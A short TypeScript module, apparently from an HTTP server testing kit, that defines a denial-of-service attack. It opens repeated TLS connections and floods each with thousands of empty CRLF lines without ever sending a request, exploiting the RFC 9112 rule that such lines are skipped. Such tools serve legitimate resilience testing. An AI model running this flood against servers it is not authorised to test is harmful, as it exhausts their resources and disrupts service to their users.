import type { Attack } from '../kit/attack.js';

/** Empty lines before a request line are passed over (RFC 9112, 2.2). */
export const attack: Attack = {
  name: 'empty lines before a request that never comes',
  async run(target) {
    const lines = Buffer.from('\r\n'.repeat(8192));
    await target.repeat(20, async () => {
      const socket = await target.tls();
      for (let sent = 0; sent < 250 && socket?.destroyed === false && !target.isOver; sent += 1) {
        await target.push(socket, lines);
      }
      socket?.destroy();
    });
  },
};
